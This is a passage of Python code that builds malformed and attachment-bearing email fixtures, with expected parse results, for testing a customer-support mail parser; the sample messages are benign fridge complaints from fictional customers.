    body = """Hello, the light inside my fridge stopped working yesterday. Is the bulb covered by the warranty?

Mercy Chepkoech, Kericho
"""
    data = raw(
        env(
            "mercy.chepkoech@kericho-tea.example",
            "webmail.kericho-tea.example",
            "203.0.113.160",
            "Fri, 14 Mar 2025 08:31:04 +0300 (EAT)",
            "4Z6xW1v2Ujz9t",
        ),
        f"""From: Mercy Chepkoech <mercy.chepkoech@kericho-tea.example>
To: support@fuatilia.test
Subject: {subject}
Date: Fri, 14 Mar 2025 08:31:00 +0300
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
X-Mailer: SquirrelMail/1.4.22

{body}""",
    )
    return data, meta(
        frm="mercy.chepkoech@kericho-tea.example",
        subject=subject,
        message_id=None,
        text="the light inside my fridge stopped working yesterday",
        notes="No Message-ID header (the MTA did not add one): the store "
        "must synthesise a key; message_id is null.",
    )


@message("045-missing-date.eml", "malformed")
def _no_date():
    subject = "Where is my refund?"
    mid = "<20250314.093322.kibet@eldoret-net.example>"
    body = """I returned the fridge two weeks ago and I am still waiting for my refund of KSh 41,500 to M-Pesa.

Kibet Langat, Eldoret
"""
    data = raw(
        env(
            "kibet.langat@eldoret-net.example",
            "mail.eldoret-net.example",
            "203.0.113.170",
            "Fri, 14 Mar 2025 09:33:26 +0300 (EAT)",
            "4Z6xZ3x4Vkz9v",
        ),
        f"""From: Kibet Langat <kibet.langat@eldoret-net.example>
To: support@fuatilia.test
Subject: {subject}
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="kibet.langat@eldoret-net.example",
        subject=subject,
        message_id=mid,
        text="still waiting for my refund of KSh 41,500",
        notes="No Date header: msg['Date'] is None; fall back to the "
        "Received timestamp or arrival time.",
    )


@message("046-missing-subject.eml", "malformed")
def _no_subject():
    mid = "<CAV8aRc1Ed5Rb9Wa3Uh6Zs2Oj7Mx0Pi4lKt8Sj@mail.gmail.com>"
    body = """Hi, I want to buy a fridge for my salon in Nakuru. What sizes do you have under KSh 30,000?

Shiku
"""
    data = raw(
        env(
            "shiku.salon@gmail.example",
            "mail-pf1-f40.google.example",
            "192.0.2.40",
            "Fri, 14 Mar 2025 10:12:53 +0300 (EAT)",
            "4Z6y16z6Wmz9w",
        ),
        f"""MIME-Version: 1.0
From: Wanjiku Shiku <shiku.salon@gmail.example>
Date: Fri, 14 Mar 2025 10:12:50 +0300
Message-ID: {mid}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="shiku.salon@gmail.example",
        subject=None,
        message_id=mid,
        text="What sizes do you have under KSh 30,000",
        notes="No Subject header at all (msg['Subject'] is None); the ticket "
        "needs a placeholder title.",
    )


@message("047-broken-date.eml", "malformed")
def _broken_date():
    subject = "Fridge making clicking sound"
    mid = "<20250314110406.7711@cheap-mailer.example>"
    body = """Hello, my fridge makes a clicking sound every 10 minutes and then stops cooling for a while.

Daniel Mutiso, Machakos
"""
    data = raw(
        env(
            "dmutiso@cheap-mailer.example",
            "cheap-mailer.example",
            "203.0.113.180",
            "Fri, 14 Mar 2025 11:04:10 +0300 (EAT)",
            "4Z6y38b8Xnz9x",
        ),
        f"""From: Daniel Mutiso <dmutiso@cheap-mailer.example>
To: support@fuatilia.test
Subject: {subject}
Date: Mon, 32 Foo 2025 25:61:00 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="dmutiso@cheap-mailer.example",
        subject=subject,
        message_id=mid,
        text="makes a clicking sound every 10 minutes",
        notes="Unparsable Date 'Mon, 32 Foo 2025 25:61:00 +0300': stdlib "
        "keeps the string, registers InvalidDateDefect and "
        "msg['Date'].datetime is None (no exception).",
    )


@message("048-date-obsolete-zone.eml", "malformed")
def _obsolete_zone():
    subject = "Delivery slot for Saturday"
    mid = "<20250305100000.AA01234@old-unix.example>"
    body = """Please deliver the fridge on Saturday morning, my gate is the green one opposite the church in Kitengela.

Ezekiel Saitoti
"""
    data = raw(
        env(
            "saitoti@old-unix.example",
            "old-unix.example",
            "203.0.113.190",
            "Wed,  5 Mar 2025 10:00:04 +0300 (EAT)",
            "4Z6y5Ac0Yoz9y",
        ),
        f"""From: saitoti@old-unix.example (Ezekiel Saitoti)
To: support@fuatilia.test
Subject: {subject}
Date: 5 Mar 25 10:00 EAT
Message-Id: {mid}

{body}""",
    )
    return data, meta(
        frm="saitoti@old-unix.example",
        subject=subject,
        message_id=mid,
        text="the green one opposite the church in Kitengela",
        notes="Obsolete Date '5 Mar 25 10:00 EAT' (2-digit year, no seconds, "
        "non-RFC zone): stdlib parses it silently as 2025-03-05 10:00 "
        "with an unknown (-0000) zone, 3 hours off; old-style "
        "'addr (Name)' From.",
    )


@message("049-to-unterminated-quote.eml", "malformed")
def _to_unterminated():
    subject = "Need a fridge repair in Kisii"
    mid = "<20250314121533.2C3D@kisii-cyber.example>"
    body = """Good morning. My fridge stopped working after the power blackout on Tuesday. I am in Kisii town near the market.

Kerubo Moraa
"""
    data = raw(
        env(
            "kerubo.moraa@kisii-cyber.example",
            "kisii-cyber.example",
            "203.0.113.200",
            "Fri, 14 Mar 2025 12:15:37 +0300 (EAT)",
            "4Z6y7Ce2Zpz9z",
        ),
        f"""From: Kerubo Moraa <kerubo.moraa@kisii-cyber.example>
To: "Fuatilia Support <support@fuatilia.test>
Subject: {subject}
Date: Fri, 14 Mar 2025 12:15:33 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="kerubo.moraa@kisii-cyber.example",
        subject=subject,
        message_id=mid,
        text="stopped working after the power blackout on Tuesday",
        notes="To header has an unterminated quote: stdlib does not raise but "
        "returns ONE bogus address whose addr_spec is the quoted "
        "string (no domain) with InvalidHeaderDefects.",
    )


@message("050-cc-trailing-comma.eml", "malformed")
def _cc_trailing_comma():
    subject = "Shared fridge in our office kitchen"
    mid = "<20250314131002.5E6F@ngong-office.example>"
    body = """The shared office fridge you delivered last month is freezing the vegetables in the bottom drawer. Colleagues copied.

Wambui Kariuki, Ngong Road
"""
    data = raw(
        env(
            "wambui.kariuki@ngong-office.example",
            "mail.ngong-office.example",
            "203.0.113.210",
            "Fri, 14 Mar 2025 13:10:06 +0300 (EAT)",
            "4Z6y9Eg4Aqz9a",
        ),
        f"""From: Wambui Kariuki <wambui.kariuki@ngong-office.example>
To: support@fuatilia.test
Cc: kevin.omondi@ngong-office.example, faith.nekesa@ngong-office.example,
Subject: {subject}
Date: Fri, 14 Mar 2025 13:10:02 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="wambui.kariuki@ngong-office.example",
        subject=subject,
        message_id=mid,
        text="freezing the vegetables in the bottom drawer",
        notes="Cc ends with a trailing comma (empty list element): stdlib "
        "silently drops it and returns the two addresses.",
    )


@message("051-message-id-bracketed-literal.eml", "malformed")
def _mid_bracketed():
    subject = "Fridge compressor very hot"
    body = """Hello, the back of the fridge (compressor) is very hot to touch and the kitchen smells of burning plastic. Is it safe?

Tom Kiprop
"""
    data = raw(
        env(
            "tom.kiprop@exchange-host.example",
            "exchange-host.example",
            "198.51.100.220",
            "Fri, 14 Mar 2025 14:22:48 +0300 (EAT)",
            "4Z6yCGi6Brz9b",
        ),
        f"""From: Tom Kiprop <tom.kiprop@exchange-host.example>
To: support@fuatilia.test
Subject: {subject}
Date: Fri, 14 Mar 2025 14:22:44 +0300
Message-ID: <[abc@microsoft.com]>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="tom.kiprop@exchange-host.example",
        subject=subject,
        message_id=None,
        text="the kitchen smells of burning plastic",
        notes="Message-ID '<[abc@microsoft.com]>': with policy.default, "
        "msg['Message-ID'] RAISES IndexError inside the header parser, "
        "so message_id is null; the raw value is available through "
        "msg.raw_items().",
    )


@message("052-message-id-no-angle-brackets.eml", "malformed")
def _mid_no_brackets():
    subject = "Stock fridge for pharmacy"
    mid = "20250314.4471@kisumu-pos.example"
    body = """We need a vaccine/medicine fridge for our pharmacy in Kondele, Kisumu. Do you sell ones with a temperature logger?

Dr. Achieng Oduor
"""
    data = raw(
        env(
            "achieng.oduor@kisumu-pos.example",
            "kisumu-pos.example",
            "203.0.113.230",
            "Fri, 14 Mar 2025 15:02:11 +0300 (EAT)",
            "4Z6yEJk8Csz9c",
        ),
        f"""From: Achieng Oduor <achieng.oduor@kisumu-pos.example>
To: support@fuatilia.test
Subject: {subject}
Date: Fri, 14 Mar 2025 15:02:07 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="achieng.oduor@kisumu-pos.example",
        subject=subject,
        message_id=mid,
        text="Do you sell ones with a temperature logger",
        notes="Message-ID without angle brackets: stdlib keeps the bare "
        "string and records an InvalidHeaderDefect (no exception).",
    )


@message("053-overlong-header-lines.eml", "malformed")
def _overlong():
    subject = "Re: [FT-J3K8M] Fridge still not cooling"
    mid = "<20250314160000.LONG.9911@verbose-mailer.example>"
    refs = [
        f"<ft.{200 + i}.r{7 * i + 1000:04d}x@fuatilia.test>"
        if i % 3 == 0
        else f"<{0x5E1A0000 + 97 * i:08x}.{i}@verbose-mailer.example>"
        for i in range(40)
    ]
    refs.append("<ft.260.k3m9q2w7@fuatilia.test>")
    spam = "X-Spam-Report: " + " ".join(
        f"*  {(i % 7) / 10.0:.1f} RULE_{i:02d} Rule number {i} matched in body or header"
        for i in range(40)
    )
    body = """It is still not cooling. This is the fourth time I write about it.

Peter Ngugi
"""
    assert len(" ".join(refs)) > 998 and len(spam) > 998
    data = raw(
        env(
            "peter.ngugi@verbose-mailer.example",
            "verbose-mailer.example",
            "203.0.113.240",
            "Fri, 14 Mar 2025 16:00:04 +0300 (EAT)",
            "4Z6yGLm0Dtz9d",
        ),
        f"""From: Peter Ngugi <peter.ngugi@verbose-mailer.example>
To: support@fuatilia.test
Subject: {subject}
Date: Fri, 14 Mar 2025 16:00:00 +0300
Message-ID: {mid}
In-Reply-To: {refs[-1]}
References: {" ".join(refs)}
{spam}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="peter.ngugi@verbose-mailer.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[refs[-1]],
        references=refs,
        ticket_ref="FT-J3K8M",
        text="This is the fourth time I write about it",
        notes="References (41 ids) and X-Spam-Report are single unfolded "
        "lines longer than the RFC 5322 limit of 998 characters.",
    )


@message("054-from-unparsable.eml", "malformed")
def _from_unparsable():
    subject = "Complaint about technician"
    mid = "<20250314163011.8A9B@contact-form.example>"
    body = """The technician who came to our house in South B was rude and left without fixing the fridge.

Sent from the Fuatilia contact page
"""
    data = raw(
        env(
            "www-data@contact-form.example",
            "contact-form.example",
            "203.0.113.250",
            "Fri, 14 Mar 2025 16:30:15 +0300 (EAT)",
            "4Z6yJNp2Euz9f",
        ),
        f"""From: Customer Care Team
To: support@fuatilia.test
Subject: {subject}
Date: Fri, 14 Mar 2025 16:30:11 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm=None,
        subject=subject,
        message_id=mid,
        text="was rude and left without fixing the fridge",
        notes="From header has a name but no address: stdlib turns it into an"
        " addr_spec '\"Customer Care Team\"' without domain (defects, "
        "no exception); from is null. Return-Path is the only sender "
        "hint.",
    )


@message("055-mbox-from-line.eml", "malformed")
def _mbox_from():
    subject = "Fridge shelf cracked"
    mid = "<20250314171522.3344@mbox-user.example>"
    body = """One of the glass shelves cracked when I put a pot on it. Can I buy a replacement shelf?
>From what I saw online it costs about KSh 1,800.

Nyambura
"""
    data = raw(
        """From nyambura@mbox-user.example Fri Mar 14 17:15:22 2025
""",
        env(
            "nyambura@mbox-user.example",
            "mbox-user.example",
            "203.0.113.251",
            "Fri, 14 Mar 2025 17:15:26 +0300 (EAT)",
            "4Z6yLQr4Fvz9g",
        ),
        f"""From: Nyambura Gichuru <nyambura@mbox-user.example>
To: support@fuatilia.test
Subject: {subject}
Date: Fri, 14 Mar 2025 17:15:22 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
        eol=LF,
    )
    return data, meta(
        frm="nyambura@mbox-user.example",
        subject=subject,
        message_id=mid,
        text="cracked when I put a pot on it",
        notes="File starts with an mbox 'From ' envelope line (LF endings) "
        "and the body has a '>From' escaped line; stdlib stores the "
        "envelope via get_unixfrom() instead of as a header.",
    )


@message("056-very-long-single-line-body.eml", "malformed")
def _long_line():
    subject = "Fridge error log (copied from the display app)"
    mid = "<20250314180000.LOG.5151@smartfridge-owner.example>"
    entries = []
    for i in range(600):
        hh, mm = divmod(i * 7, 60)
        code = ("E1", "E4", "OK", "E2", "OK", "OK")[i % 6]
        day, door = 3 + (hh // 24) % 2, "open" if i % 11 == 0 else "closed"
        entries.append(
            f"[2025-03-1{day} {hh % 24:02d}:{mm:02d}] compressor={code} "
            f"temp={3 + i % 5}.{i % 10}C door={door};"
        )
    entries.insert(
        450,
        "NOTE FROM CUSTOMER: the display showed error code E7 again "
        "and the fridge beeped for an hour;",
    )
    line = " ".join(entries)
    assert len(line) > 30000 and "\n" not in line
    data = raw(
        env(
            "owner@smartfridge-owner.example",
            "smartfridge-owner.example",
            "203.0.113.252",
            "Fri, 14 Mar 2025 18:00:04 +0300 (EAT)",
            "4Z6yNSt6Gwz9h",
        ),
        f"""From: Samuel Kirui <owner@smartfridge-owner.example>
To: support@fuatilia.test
Subject: {subject}
Date: Fri, 14 Mar 2025 18:00:00 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

{line}
""",
    )
    return data, meta(
        frm="owner@smartfridge-owner.example",
        subject=subject,
        message_id=mid,
        text="the display showed error code E7 again",
        notes=f"Body is one {len(line):,}-character line (no line breaks), far"
        " over the 998-character SMTP limit; the phrase sits deep inside"
        " it.",
    )


@message("057-duplicate-delivery.eml", "duplicate")
def _duplicate():
    trace = (
        "Return-Path: <kamau.gitau@gmail.example>\n"
        "Delivered-To: support@fuatilia.test\n"
        "Received: from mx2.fuatilia.test (mx2.fuatilia.test [192.0.2.200])\n"
        "\tby mx1.fuatilia.test (Postfix) with ESMTP id 4Z6tC9w1Rzz9n\n"
        "\tfor <support@fuatilia.test>; Tue, 11 Mar 2025 08:21:40 +0300 (EAT)\n"
        "Received: from mail-qk1-f50.google.example (mail-qk1-f50.google.example [192.0.2.50])\n"
        "\tby mx2.fuatilia.test (Postfix) with ESMTPS id 4Z6tC1x0Qaz7k\n"
        "\tfor <support@fuatilia.test>; Tue, 11 Mar 2025 08:15:07 +0300 (EAT)\n"
    )
    data, m = _kamau_new(trace)
    m["notes"] = (
        "Same message as 017-new-plain-english.eml (identical "
        "Message-ID and body) delivered a second time via the backup"
        " MX; must not create a second ticket."
    )
    return data, m


# ===========================================================================
# attachments
# ===========================================================================


@message("058-attachment-pdf.eml", "attachment")
def _pdf():
    subject = "M-Pesa receipt for fridge order 58244"
    mid = "<CAW1bSd4Fe8Sc2Xb6Vi9At5Pk0Ny3Qj7mLu1Tk@mail.gmail.com>"
    fname = "Risiti-MPESA-SC73KQ9XYZ.pdf"
    outer, alt = "000000000000e9c2b1062f6d4f91", "000000000000e9c2b0062f6d4f8f"
    plain = """Hello,

Attached is the M-Pesa receipt for order 58244 as requested by your agent on the phone.

Regards,
Naliaka Barasa
"""
    html = """<div dir="ltr">Hello,<div><br></div><div>Attached is the M-Pesa receipt for order 58244 as requested by your agent on the phone.</div><div><br></div><div>Regards,</div><div>Naliaka Barasa</div></div>
"""
    data = raw(
        env(
            "naliaka.barasa@gmail.example",
            "mail-ej1-f47.google.example",
            "192.0.2.47",
            "Sat, 15 Mar 2025 09:10:33 +0300 (EAT)",
            "4Z6z1Uv8Hxz9j",
        ),
        f"""MIME-Version: 1.0
From: Naliaka Barasa <naliaka.barasa@gmail.example>
Date: Sat, 15 Mar 2025 09:10:30 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: multipart/mixed; boundary="{outer}"

--{outer}
Content-Type: multipart/alternative; boundary="{alt}"

--{alt}
Content-Type: text/plain; charset="UTF-8"

{plain}
--{alt}
Content-Type: text/html; charset="UTF-8"

{html}
--{alt}--
--{outer}
Content-Type: application/pdf; name="{fname}"
Content-Disposition: attachment; filename="{fname}"
Content-Transfer-Encoding: base64
Content-ID: <f_m88x2k9l0>
X-Attachment-Id: f_m88x2k9l0

{b64(fake_pdf("M-PESA SC73KQ9XYZ KSh 38,999"))}
--{outer}--
""",
    )
    return data, meta(
        frm="naliaka.barasa@gmail.example",
        subject=subject,
        message_id=mid,
        text="Attached is the M-Pesa receipt for order 58244",
        attachments=[fname],
        notes="Gmail multipart/mixed with a small (fake) PDF attachment, "
        "base64, plus Content-ID/X-Attachment-Id on the attachment.",
    )


@message("059-attachment-rfc2231-filenames.eml", "attachment")
def _rfc2231():
    subject = "Invoice and photo of the damaged fridge"
    mid = "<9d4e7f21-3b6a-4c8d-a5e9-0f1b2c3d4e5f@kitengela-home.example>"
    name1 = "Ankara ya Ng\u2019ang\u2019a \u2013 Machi 2025.pdf"
    name2 = "Picha ya friji iliyoharibika \u2014 Kitengela (upande wa kushoto).jpg"
    n2a, n2b = "Picha ya friji iliyoharibika ", "\u2014 Kitengela (upande wa kushoto).jpg"
    assert n2a + n2b == name2
    bnd = "------------0HcU5W2bT8nE3yQ1kR7vA4sD"
    body = """Habari,

I attach the invoice and a photo of the damaged side of the fridge that was delivered to Kitengela yesterday.

Ng\u2019ang\u2019a Mwaura
"""
    data = raw(
        env(
            "nganga.mwaura@kitengela-home.example",
            "mail.kitengela-home.example",
            "203.0.113.61",
            "Sat, 15 Mar 2025 10:02:18 +0300 (EAT)",
            "4Z6z3Wx0Jyz9k",
        ),
        f"""Content-Type: multipart/mixed; boundary="{bnd}"
Message-ID: {mid}
Date: Sat, 15 Mar 2025 10:02:14 +0300
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: sw
To: support@fuatilia.test
From: =?UTF-8?Q?Ng=E2=80=99ang=E2=80=99a_Mwaura?= <nganga.mwaura@kitengela-home.example>
Subject: {subject}

This is a multi-part message in MIME format.
--{bnd}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

""",
        (body, "utf-8"),
        f"""
--{bnd}
Content-Type: application/pdf;
 name*=UTF-8''{pct(name1)}
Content-Disposition: attachment;
 filename*=UTF-8''{pct(name1)}
Content-Transfer-Encoding: base64

{b64(fake_pdf("Ankara Machi 2025"))}
--{bnd}
Content-Type: image/jpeg;
 name*0*=UTF-8'sw'{pct(n2a)};
 name*1*={pct(n2b)}
Content-Disposition: attachment;
 filename*0*=UTF-8'sw'{pct(n2a)};
 filename*1*={pct(n2b)}
Content-Transfer-Encoding: base64

{b64(fake_jpeg(59))}
--{bnd}--
""",
    )
    return data, meta(
        frm="nganga.mwaura@kitengela-home.example",
        subject=subject,
        message_id=mid,
        text="a photo of the damaged side of the fridge",
        attachments=[name1, name2],
        notes="Thunderbird RFC 2231 filenames: filename*=UTF-8''... and a "
        "continued filename*0*/filename*1* with language tag 'sw'.",
    )


@message("060-attachment-rfc2047-filenames.eml", "attachment")
def _rfc2047_names():
    subject = "Orodha ya bidhaa na risiti"
    mid = "<AS8PR04MB8467B1C2D3E4F5A6B7C8D9E0F1A2B@AS8PR04MB8467.eurprd04.prod.outlook.com>"
    name1 = "Orodha ya bidhaa \u2013 Kisumu.xlsx"
    name2 = "Risiti ya malipo \u211617.pdf"
    outer = "_004_AS8PR04MB8467B1C2D3E4F5A6B7C8D9E0F1A2BAS8PR04MB8467eurp_"
    xlsx, pdf = fake_zip(60), fake_pdf("Risiti 17")
    body = """Habari,

Tafadhali pokea orodha ya bidhaa za tawi la Kisumu na risiti ya malipo.

Akinyi Achieng
"""
    data = raw(
        env(
            "akinyi.achieng@outlook.example",
            "eur04-am8-obe.outbound.protection.outlook.example",
            "198.51.100.8",
            "Sat, 15 Mar 2025 11:40:09 +0300 (EAT)",
            "4Z6z6Yz2Kaz9m",
        ),
        f"""From: Akinyi Achieng <akinyi.achieng@outlook.example>
To: "support@fuatilia.test" <support@fuatilia.test>
Subject: {subject}
Date: Sat, 15 Mar 2025 08:40:05 +0000
Message-ID: {mid}
Accept-Language: en-GB
Content-Language: sw-KE
X-MS-Has-Attach: yes
Content-Type: multipart/mixed;
	boundary="{outer}"
MIME-Version: 1.0

--{outer}
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(body, "ascii")}
--{outer}
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;
	name="{ew_b(name1)}"
Content-Description: {ew_b(name1)}
Content-Disposition: attachment;
	filename="{ew_b(name1)}"; size={len(xlsx)};
	creation-date="Sat, 15 Mar 2025 08:39:51 GMT";
	modification-date="Sat, 15 Mar 2025 08:40:05 GMT"
Content-Transfer-Encoding: base64

{b64(xlsx)}
--{outer}
Content-Type: application/pdf; name="{ew_q(name2)}"
Content-Description: {ew_q(name2)}
Content-Disposition: attachment; filename="{ew_q(name2)}"; size={len(pdf)}
Content-Transfer-Encoding: base64

{b64(pdf)}
--{outer}--
""",
    )
    return data, meta(
        frm="akinyi.achieng@outlook.example",
        subject=subject,
        message_id=mid,
        text="Tafadhali pokea orodha ya bidhaa",
        attachments=[name1, name2],
        notes="Outlook-style RFC 2047 encoded-words inside quoted name=/"
        "filename= parameters (B and Q; not allowed by RFC 2047 but "
        "common): stdlib decodes them, registering InvalidHeaderDefect.",
    )


@message("061-attachment-raw-utf8-filename.eml", "attachment")
def _raw_utf8_filename():
    subject = "Photo of the fridge"
    mid = "<CAX3cTe6Gf0Td4Yc8Wj1Bu7Ql2Oz5Rk9nMv3Ul@mail.gmail.com>"
    fname = "Picha ya friji \u2013 Ruiru.jpg"
    bnd = "000000000000a4d7e8062f6f2b15"
    body = """Here is the photo of the broken handle, the fridge is in Ruiru.

Mumbi
"""
    data = raw(
        env(
            "mumbi.njoki@gmail.example",
            "mail-ed1-f41.google.example",
            "192.0.2.41",
            "Sat, 15 Mar 2025 12:20:51 +0300 (EAT)",
            "4Z6z8b04Lbz9n",
        ),
        f"""MIME-Version: 1.0
From: Mumbi Njoki <mumbi.njoki@gmail.example>
Date: Sat, 15 Mar 2025 12:20:47 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: multipart/mixed; boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset="UTF-8"

{body}
--{bnd}
""",
        (
            f"""Content-Type: image/jpeg; name="{fname}"
Content-Disposition: attachment; filename="{fname}"
""",
            "utf-8",
        ),
        f"""Content-Transfer-Encoding: base64

{b64(fake_jpeg(61))}
--{bnd}--
""",
    )
    return data, meta(
        frm="mumbi.njoki@gmail.example",
        subject=subject,
        message_id=mid,
        text="the photo of the broken handle",
        attachments=[fname],
        notes="Attachment filename written as raw 8-bit UTF-8 inside the "
        "quoted parameter (RFC 6532 style, no encoding).",
    )


@message("062-attachment-name-in-content-type-only.eml", "attachment")
def _name_only():
    subject = "Delivery note signed"
    mid = "<OF1A2B3C4D.5E6F7081-ON432589A1.0031D2E3-432589A1.0031F4A5@kenchem.example>"
    fname = "Delivery_note_4471.pdf"
    bnd = "0__=4EBB0A1DDFC3A6E58f9e8a93df938690918c4EBB0A1DDFC3A6E5"
    body = """Please find the signed delivery note for the two chest freezers delivered to our Athi River plant.

Regards,
Stores Department
"""
    data = raw(
        env(
            "stores@kenchem.example",
            "notes.kenchem.example",
            "203.0.113.72",
            "Sat, 15 Mar 2025 12:58:10 +0300 (EAT)",
            "4Z6zBd26Mcz9p",
        ),
        f"""From: Stores Kenchem <stores@kenchem.example>
To: support@fuatilia.test
Subject: {subject}
Date: Sat, 15 Mar 2025 12:58:05 +0300
Message-ID: {mid}
MIME-Version: 1.0
X-Mailer: Lotus Notes Release 8.5.3 September 15, 2011
Content-type: multipart/mixed;
	Boundary="{bnd}"
Content-Disposition: inline

--{bnd}
Content-type: text/plain; charset=US-ASCII

{body}
--{bnd}
Content-type: application/pdf;
	name="{fname}"
Content-Transfer-Encoding: base64

{b64(fake_pdf("Delivery note 4471"))}
--{bnd}--
""",
    )
    return data, meta(
        frm="stores@kenchem.example",
        subject=subject,
        message_id=mid,
        text="signed delivery note for the two chest freezers",
        attachments=[fname],
        notes="Lotus Notes: attachment named only via Content-Type name= (no "
        "Content-Disposition on the part), 'Content-type'/'Boundary' "
        "capitalisation; get_filename() falls back to name=.",
    )


@message("063-only-attachment.eml", "attachment")
def _only_attachment():
    subject = "Scan from Kisumu office"
    mid = "<SCAN.20250315131522.0001@scanner.kisumufresh.example>"
    fname = "Scan_20250315_131522.pdf"
    data = raw(
        env(
            "scanner@kisumufresh.example",
            "scanner.kisumufresh.example",
            "203.0.113.73",
            "Sat, 15 Mar 2025 13:15:26 +0300 (EAT)",
            "4Z6zDf48Ndz9q",
        ),
        f"""From: Scanner Kisumu Office <scanner@kisumufresh.example>
To: support@fuatilia.test
Subject: {subject}
Date: Sat, 15 Mar 2025 13:15:22 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: application/pdf; name="{fname}"
Content-Disposition: attachment; filename="{fname}"
Content-Transfer-Encoding: base64

{b64(fake_pdf("Signed delivery note Kisumu"))}""",
    )
    return data, meta(
        frm="scanner@kisumufresh.example",
        subject=subject,
        message_id=mid,
        text=None,
        attachments=[fname],
        notes="Office scan-to-email: the whole message is one application/pdf "
        "part (not multipart, no text at all); text_must_contain null.",
    )


@message("064-inline-images-related.eml", "attachment")
def _inline_related():
    subject = "Cracked inner panel - photo inline"
    mid = "<AM0PR10MB3217C4D5E6F7A8B9C0D1E2F3A4B5C@AM0PR10MB3217.EURPRD10.PROD.OUTLOOK.COM>"
    rel = "_007_AM0PR10MB3217C4D5E6F7A8B9C0D1E2F3A4B5CAM0PR10MB3217EURP_"
    alt = "_000_AM0PR10MB3217C4D5E6F7A8B9C0D1E2F3A4B5CAM0PR10MB3217EURP_"
    cid1, cid2 = "image001.png@01DB95A1.2C3B4D50", "image002.jpg@01DB95A1.2C3B4D50"
    png, jpg = tiny_png(), fake_jpeg(64)
    plain = """Hello,

The photo below shows the crack in the inner panel of the fridge delivered to our Mombasa Road office.

[cid:image002.jpg@01DB95A1.2C3B4D50]

Regards,
Kevin Mutua
[cid:image001.png@01DB95A1.2C3B4D50]
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body lang="EN-GB"><div class="WordSection1">
<p class="MsoNormal">Hello,</p>
<p class="MsoNormal">The photo below shows the crack in the inner panel of the fridge delivered to our Mombasa Road office.</p>
<p class="MsoNormal"><img width="320" height="240" style="width:3.3333in;height:2.5in" id="Picture_x0020_2" src="cid:{cid2}" alt="crack"></p>
<p class="MsoNormal">Regards,<br>Kevin Mutua</p>
<p class="MsoNormal"><img width="120" height="40" id="Picture_x0020_1" src="cid:{cid1}" alt="Logo"></p>
</div></body></html>
"""
    data = raw(
        env(
            "kevin.mutua@outlook.example",
            "eur10-am0-obe.outbound.protection.outlook.example",
            "198.51.100.10",
            "Sat, 15 Mar 2025 14:05:44 +0300 (EAT)",
            "4Z6zGh6aPez9r",
        ),
        f"""From: Kevin Mutua <kevin.mutua@outlook.example>
To: Fuatilia Support <support@fuatilia.test>
Subject: {subject}
Date: Sat, 15 Mar 2025 11:05:40 +0000
Message-ID: {mid}
Accept-Language: en-GB
Content-Language: en-GB
X-MS-Has-Attach: yes
Content-Type: multipart/related;
	boundary="{rel}";
	type="multipart/alternative"
MIME-Version: 1.0

--{rel}
Content-Type: multipart/alternative;
	boundary="{alt}"

--{alt}
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "ascii")}
--{alt}
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(html)}
--{alt}--

--{rel}
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size={len(png)};
	creation-date="Sat, 15 Mar 2025 11:05:39 GMT";
	modification-date="Sat, 15 Mar 2025 11:05:39 GMT"
Content-ID: <{cid1}>
Content-Transfer-Encoding: base64

{b64(png)}
--{rel}
Content-Type: image/jpeg; name="image002.jpg"
Content-Description: image002.jpg
Content-Disposition: inline; filename="image002.jpg"; size={len(jpg)};
	creation-date="Sat, 15 Mar 2025 11:05:39 GMT";
	modification-date="Sat, 15 Mar 2025 11:05:39 GMT"
Content-ID: <{cid2}>
Content-Transfer-Encoding: base64

{b64(jpg)}
--{rel}--
""",
    )
    return data, meta(
        frm="kevin.mutua@outlook.example",
        subject=subject,
        message_id=mid,
        text="shows the crack in the inner panel",
        attachments=["image001.png", "image002.jpg"],
        notes="Outlook multipart/related (type=multipart/alternative) with two"
        " inline images referenced by cid: from the html (a signature "
        "logo and a photo); both have inline dispositions.",
    )


@message("065-winmail-dat-tnef.eml", "attachment")
def _winmail():
    subject = "Service report for cold room"
    mid = "<000501db95b2$3e4f5a60$ba6e0f20$@coldchain-ke.example>"
    bnd = "----=_NextPart_000_0006_01DB95CB.63A99A80"
    body = """Dear Fuatilia,

Please see the attached service report for the cold room at our Embakasi warehouse. The door heater is still faulty.

Regards,
Faith Wanjala
Cold Chain Kenya Ltd
"""
    data = raw(
        env(
            "faith.wanjala@coldchain-ke.example",
            "exch01.coldchain-ke.example",
